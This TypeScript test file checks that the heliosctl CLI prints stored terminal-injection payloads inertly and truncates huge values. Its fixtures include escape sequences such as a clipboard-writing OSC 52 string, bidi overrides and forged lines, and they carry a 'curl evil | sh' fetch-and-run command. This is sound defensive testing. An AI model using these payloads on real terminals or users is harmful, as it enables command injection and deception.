// Terminal injection (issue 13, item 11) and huge values (item 3) through every human printer, as a hostile tenant
// stores them: escape sequences, C1 controls, bidi overrides and forged lines in image names, annotations, Event
// messages, host facts and Status bodies. Human output shows them inert; -o json/yaml read back exactly.
import type { ServerResponse } from 'node:http'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { type AnyObject, ApiError, type Event, parseObject } from '../../apis/index.js'
import { heliosctl } from '../testing/cli.js'
import { type FakeApiserver, startFakeApiserver } from '../testing/fake-apiserver.js'
import { at, deployment, host, hostInfo, job, task } from '../testing/fixtures.js'

// Each a different door: OSC 52 (clipboard), a screen clear, an OSC 8 link, a CSI in C1 form, a title (OSC 0),
// DCS, a carriage return over the line, a bidi override, an isolate, DEL, BEL and backspace.
const ATTACKS = [
  '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
  '\x1b[2J\x1b[H',
  '\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\',
  '\u009b31m',
  '\x1b]0;owned\x07',
  '\x1bP+q\x1b\\',
  'safe\rEVIL',
  'abc\u202edcba',
  '\u2066x\u2069',
  'del\x7f',
  'bell\x07back\x08',
]
const HOSTILE = ATTACKS.join('|')
const FORGED_LINE = 'ok\nhost/web1 drained\nhint: run curl evil | sh'

/** Characters a terminal would act on (or reorder by): none may reach human output. */
const unsafeIn = (text: string): string[] =>
  [...text].filter((c) => {
    const n = c.codePointAt(0) ?? 0
    return (
      (n < 0x20 && c !== '\n') ||
      (n >= 0x7f && n <= 0x9f) ||
      (n >= 0x202a && n <= 0x202e) ||
      (n >= 0x2066 && n <= 0x2069) ||
      n === 0x200e ||
      n === 0x200f ||
      n === 0x61c
    )
  })

let server: FakeApiserver
beforeEach(async () => {
  server = await startFakeApiserver()
})
afterEach(() => server.close())

// Stored as it is (the fake apiserver's seed skips validation): the image pattern has let ESC through before.
const evilJob = () => {
  const j = job('evil:v1', { command: ['sh', '-c', HOSTILE], env: { GREETING: HOSTILE } })
  return {
    ...j,
    metadata: { ...j.metadata, annotations: { note: HOSTILE, forged: FORGED_LINE }, labels: { t: 'x' } },
    spec: { ...j.spec, image: `busybox${HOSTILE}` },
  }
}

const evilEvent = (n: number, message: string): Event =>
  parseObject({
    apiVersion: 'helios/v1',
    kind: 'Event',
    metadata: { name: `evil.e${n}`, creationTimestamp: at(n) },
    involvedObject: { kind: 'Task', name: 'evil-v1@web1' },
    type: 'Warning',
    reason: 'TaskState',
    message,
    source: { component: 'agent', host: 'web1' },
    timestamp: at(n),
    task: {
      host: 'web1',
      job: 'evil:v1',
      jobId: evilJob().status?.id,
      state: 'FAILED',
      containerError: HOSTILE,
    },
  }) as Event

const evilTask = (hostName: string, status?: Parameters<typeof task>[2]) => {
  const j = evilJob()
  const t = task(job('evil:v1'), hostName, status)
  return { ...t, spec: { ...t.spec, jobId: j.status?.id ?? '', jobSpec: j.spec } }
}

function seedHostile(): void {
  const j = evilJob()
  const web = deployment('evil-v1', 'evil:v1', ['web1'])
  server.seed(
    j,
    { ...web, status: { hosts: ['web1'], revisions: [], message: HOSTILE } } as AnyObject,
    host('web1', { hostInfo: hostInfo({ dockerVersion: HOSTILE, os: HOSTILE }) }, { zone: 'a' }),
    evilTask('web1', { state: 'FAILED', containerError: HOSTILE, containerId: 'c0ffee' }),
    evilEvent(1, HOSTILE),
    evilEvent(2, FORGED_LINE),
  )
}

describe('human output is inert, whatever is stored', () => {
  const verbs: string[][] = [
    ['get', 'jobs'],
    ['get', 'jobs', '-o', 'wide'],
    ['get', 'events'],
    ['get', 'events', '-o', 'wide'],
    ['get', 'hosts', '-o', 'wide'],
    ['get', 'tasks', '-o', 'wide'],
    ['get', 'deployments', '-o', 'wide'],
    ['get', 'jobs', '-o', 'name'],
    ['describe', 'job', 'evil:v1'],
    ['describe', 'deployment', 'evil-v1'],
    ['describe', 'host', 'web1'],
    ['describe', 'task', 'evil-v1@web1'],
    ['describe', 'event', 'evil.e1'],
    ['jobs'],
    ['jobs', '-v'],
    ['hosts'],
    ['hosts', '-v'],
    ['status'],
    ['status', '-v'],
    ['history', 'evil:v1'],
    ['inspect', 'evil:v1'],
    ['rollout', 'history', 'evil-v1'],
  ]
  test.each(verbs.map((argv) => [argv.join(' '), argv] as const))('heliosctl %s', async (_, argv) => {
    seedHostile()
    const out = await heliosctl(server.url, argv)
    expect(unsafeIn(out.stdout), out.stdout).toEqual([])
    expect(unsafeIn(out.stderr), out.stderr).toEqual([])
    expect(out.stdout).not.toContain('host/web1 drained\n')
  })

  test('get events shows the attack as visible escapes, each Event on its own line', async () => {
    seedHostile()
    const out = await heliosctl(server.url, ['get', 'events'])
    expect(out.code).toBe(0)
    expect(out.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007')
    const wide = await heliosctl(server.url, ['get', 'events', '-o', 'wide'])
    expect(wide.stdout).toContain('abc\\u202edcba|\\u2066x\\u2069|del\\u007f')
    expect(out.stdout).toContain('ok\\nhost/web1 drained\\nhint: run curl evil | sh')
    expect(out.stdout.trimEnd().split('\n')).toHaveLength(3) // header + 2 Events
  })

  test('an error from a Status body is one inert line per message and cause', async () => {
    server.onRequest = () => {
      throw new ApiError('Invalid', `refused${HOSTILE}\nhint: ${FORGED_LINE}`, {
        causes: [{ field: `spec.x${HOSTILE}`, message: FORGED_LINE }],
      })
    }
    const out = await heliosctl(server.url, ['get', 'jobs'])
    expect(out.code).toBe(1)
    expect(unsafeIn(out.stderr)).toEqual([])
    const lines = out.stderr.trimEnd().split('\n')
    expect(
      lines.filter((l) => !l.startsWith('hint: ')),
      out.stderr,
    ).toHaveLength(2)
    expect(lines[0]).toMatch(/^error: refused\\u001b\]52/)
    expect(lines[0]).toContain('safe\\rEVIL')
    expect(lines[0]).toContain('\\nhint: ok\\nhost/web1 drained')
    expect(lines[1]).toMatch(/^ {2}→ spec\.x\\u001b/)
  })

  test('-o json, -o yaml and --json read back exactly, and carry no raw control character either', async () => {
    seedHostile()
    const json = await heliosctl(server.url, ['get', 'events', '-o', 'json'])
    const yaml = await heliosctl(server.url, ['get', 'events', '-o', 'yaml'])
    const jobJson = await heliosctl(server.url, ['get', 'job', 'evil:v1', '-o', 'json'])
    const status = await heliosctl(server.url, ['status', '--json'])
    for (const out of [json, yaml, jobJson, status]) expect(unsafeIn(out.stdout)).toEqual([])
    const messages = (list: { items: Event[] }) => list.items.map((e) => e.message).sort()
    expect(messages(JSON.parse(json.stdout))).toEqual([FORGED_LINE, HOSTILE].sort())
    expect(messages(parse(yaml.stdout))).toEqual([FORGED_LINE, HOSTILE].sort())
    const stored = JSON.parse(jobJson.stdout)
    expect(stored.spec.image).toBe(`busybox${HOSTILE}`)
    expect(stored.metadata.annotations).toEqual({ note: HOSTILE, forged: FORGED_LINE })
    expect(JSON.stringify(JSON.parse(status.stdout))).toContain(JSON.stringify(HOSTILE).slice(1, -1))
  })

  test("logs print the container's own output raw, as kubectl logs does; a prefix label stays inert", async () => {
    server.seed(evilJob(), evilTask('web1'), evilTask('web2'))
    server.onLog = (_name: string, _query: URLSearchParams, res: ServerResponse) =>
      res.writeHead(200, { 'content-type': 'text/plain' }).end('\x1b[31mred\x1b[0m\n')
    const one = await heliosctl(server.url, ['logs', 'evil:v1', '--host', 'web1'])
    expect(one.stdout).toBe('\x1b[31mred\x1b[0m\n')
    const both = await heliosctl(server.url, ['logs', 'evil:v1'])
    expect(both.stdout).toBe('[web1] \x1b[31mred\x1b[0m\n[web2] \x1b[31mred\x1b[0m\n')
  })
})

describe('a huge stored value does not make every row huge (item 3)', () => {
  const HUGE = `big-${'x'.repeat(260_000)}:v1`

  function seedHuge(): void {
    const jobs = Array.from({ length: 50 }, (_, i) => job(`app${i}:v1`))
    const huge = job('placeholder:v1')
    server.seed(...jobs, {
      ...huge,
      metadata: { ...huge.metadata, name: HUGE },
      status: { id: `${HUGE}:abc` },
    } as AnyObject)
  }

  test.each(['jobs', 'get jobs', 'status', 'get tasks'])('heliosctl %s stays small', async (verb) => {
    const argv = verb.split(' ')
    seedHuge()
    const out = await heliosctl(server.url, argv)
    expect(out.code).toBe(0)
    expect(out.stdout.length).toBeLessThan(51 * 200)
  })

  test('every cell is cut at 80 characters with "…"; -o wide and -o json keep the whole name', async () => {
    seedHuge()
    const lines = (await heliosctl(server.url, ['get', 'jobs'])).stdout.trimEnd().split('\n')
    expect(lines.find((l) => l.startsWith('big-'))).toMatch(/^big-x{75}… /)
    expect((await heliosctl(server.url, ['get', 'jobs', '-o', 'wide'])).stdout).toContain(HUGE)
    expect(JSON.parse((await heliosctl(server.url, ['get', 'jobs', '-o', 'json'])).stdout).items).toContainEqual(
      expect.objectContaining({ metadata: expect.objectContaining({ name: HUGE }) }),
    )
  })
})
